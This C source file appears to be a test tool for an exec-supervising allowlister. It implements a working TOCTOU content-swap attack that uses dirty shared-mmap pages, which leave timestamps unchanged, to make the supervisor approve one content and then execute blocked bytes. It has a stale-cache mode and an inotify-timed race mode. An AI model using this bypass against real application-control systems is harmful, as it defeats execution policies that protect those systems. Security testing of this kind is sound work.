/* content-swap MODE DIR SOURCE TRIES [K]: make the supervisor approve a file by a content
 * that is not SOURCE's (a blocked program, df), then have the kernel run SOURCE's bytes
 * under it. Each try makes DIR/swap.N, of SOURCE's size, filled through a shared writable
 * mapping with SOURCE's bytes but the last one flipped. Writes through that mapping, once
 * its pages are dirty and writable, change no timestamp (only the write fault that made
 * them so did): the file keeps its stamp (dev, ino, size, mtime, ctime) while its content
 * becomes SOURCE's, by flipping that byte back; munmap then drops the last writer, so the
 * kernel can exec it.
 *   stale  the first exec fails with ETXTBSY (the mapping still writes the file), after
 *          the supervisor judged, hashed, and, the stamp being over 2 s old, cached its
 *          content; then the byte is flipped back and the file exec'd again: a cache that
 *          trusts the stamp judges it by the old content.
 *   race   the byte is flipped back and the file unmapped as soon as the supervisor has
 *          read the file for the Kth time (inotify IN_ACCESS; default 2: the head of the
 *          file, then its hash), between its hash and the kernel's open.
 * Each exec runs the file as `df`, with stdout inherited: df ran if its "Filesystem"
 * header is there. Prints one line per try on stderr: what became of the exec. */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static unsigned char *source;
static size_t size;

static void die(const char *what) {
        fprintf(stderr, "content-swap: %s: %s\n", what, strerror(errno));
        exit(2);
}

static void read_source(const char *path) {
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        struct stat st;
        if (fd < 0 || fstat(fd, &st) < 0)
                die(path);
        size = (size_t) st.st_size;
        source = malloc(size);
        if (!source)
                die("malloc");
        for (size_t off = 0; off < size;) {
                ssize_t n = pread(fd, source + off, size - off, (off_t) off);
                if (n <= 0)
                        die(path);
                off += (size_t) n;
        }
        close(fd);
}

/* Make path, SOURCE's size, through a shared mapping: SOURCE's bytes, the last flipped.
 * Returns the mapping, its pages dirty and writable; the fd is closed (the mapping keeps
 * the file open for writing), and the mapping is not inherited by children. */
static unsigned char *make_file(const char *path, struct stat *ret_st) {
        unlink(path);
        int fd = open(path, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
        if (fd < 0 || ftruncate(fd, (off_t) size) < 0)
                die(path);
        unsigned char *map = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (map == MAP_FAILED)
                die("mmap");
        if (madvise(map, size, MADV_DONTFORK) < 0)
                die("madvise");
        memcpy(map, source, size);
        map[size - 1] ^= 0xff;
        if (fstat(fd, ret_st) < 0)
                die("fstat");
        close(fd);
        return map;
}

/* Exec path as `df` in a child; returns its wait status. The child reports a failed exec
 * on stderr and exits 100 + errno. */
static pid_t spawn(const char *path) {
        pid_t pid = fork();
        if (pid < 0)
                die("fork");
        if (pid == 0) {
                char *argv[] = { (char *) "df", (char *) "/", NULL };
                char *envp[] = { (char *) "LC_ALL=C", NULL };
                execve(path, argv, envp);
                int e = errno;
                fprintf(stderr, "content-swap: exec %s: %s\n", path, strerror(e));
                _exit(100 + e);
        }
        return pid;
}

static const char *outcome(int status, char *buf, size_t len) {
        if (WIFSIGNALED(status))
                snprintf(buf, len, "killed by signal %d", WTERMSIG(status));
        else if (WEXITSTATUS(status) >= 100)
                snprintf(buf, len, "exec failed: %s", strerror(WEXITSTATUS(status) - 100));
        else
                snprintf(buf, len, "ran, exit %d", WEXITSTATUS(status));
        return buf;
}

static int wait_for(pid_t pid) {
        int status;
        while (waitpid(pid, &status, 0) < 0)
                if (errno != EINTR)
                        die("waitpid");
        return status;
}

static int stamp_same(const struct stat *a, const struct stat *b) {
        return a->st_ino == b->st_ino && a->st_size == b->st_size && a->st_mtim.tv_sec == b->st_mtim.tv_sec &&
               a->st_mtim.tv_nsec == b->st_mtim.tv_nsec && a->st_ctim.tv_sec == b->st_ctim.tv_sec &&
               a->st_ctim.tv_nsec == b->st_ctim.tv_nsec;
}

static void stale(const char *dir, int tries) {
        char path[tries][4096];
        unsigned char *map[tries];
        struct stat st[tries];
        for (int i = 0; i < tries; i++) {
                snprintf(path[i], sizeof path[i], "%s/swap.%d", dir, i);
                map[i] = make_file(path[i], &st[i]);
        }
        /* Old enough for the identity cache to remember its stamp (identity.h: settled). */
        sleep(3);
        for (int i = 0; i < tries; i++) {
                char buf[128];
                int status = wait_for(spawn(path[i]));
                fprintf(stderr, "try %d: first exec: %s\n", i, outcome(status, buf, sizeof buf));
                map[i][size - 1] ^= 0xff; /* now SOURCE's bytes */
                if (munmap(map[i], size) < 0)
                        die("munmap");
                struct stat now;
                if (stat(path[i], &now) < 0)
                        die("stat");
                if (!stamp_same(&st[i], &now))
                        fprintf(stderr, "try %d: the stamp changed: no attack\n", i);
                status = wait_for(spawn(path[i]));
                fprintf(stderr, "try %d: second exec: %s\n", i, outcome(status, buf, sizeof buf));
        }
}

static void race(const char *dir, int tries, int k) {
        for (int i = 0; i < tries; i++) {
                char path[4096], buf[128];
                snprintf(path, sizeof path, "%s/swap.%d", dir, i);
                struct stat st;
                unsigned char *map = make_file(path, &st);
                int in = inotify_init1(IN_CLOEXEC);
                if (in < 0 || inotify_add_watch(in, path, IN_ACCESS) < 0)
                        die("inotify");
                pid_t pid = spawn(path);
                int seen = 0;
                while (seen < k) {
                        struct pollfd p = { .fd = in, .events = POLLIN };
                        if (poll(&p, 1, 5000) <= 0)
                                break; /* never read that often: the exec was decided */
                        char ev[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
                        ssize_t n = read(in, ev, sizeof ev);
                        for (char *e = ev; n > 0 && e < ev + n;
                             e += sizeof(struct inotify_event) + ((struct inotify_event *) e)->len)
                                if (((struct inotify_event *) e)->mask & IN_ACCESS)
                                        seen++;
                }
                map[size - 1] ^= 0xff;
                munmap(map, size);
                int status = wait_for(pid);
                close(in);
                struct stat now;
                bool same = stat(path, &now) == 0 && stamp_same(&st, &now);
                fprintf(stderr, "try %d: swapped after %d reads%s: %s\n", i, seen, same ? "" : " (stamp changed)",
                        outcome(status, buf, sizeof buf));
                unlink(path);
        }
}

int main(int argc, char **argv) {
        if (argc < 5)
                return 2;
        read_source(argv[3]);
        int tries = atoi(argv[4]);
        if (tries < 1 || tries > 200)
                return 2;
        setvbuf(stderr, NULL, _IOLBF, 0);
        if (strcmp(argv[1], "stale") == 0)
                stale(argv[2], tries);
        else if (strcmp(argv[1], "race") == 0)
                race(argv[2], tries, argc > 5 ? atoi(argv[5]) : 2);
        else
                return 2;
        return 0;
}
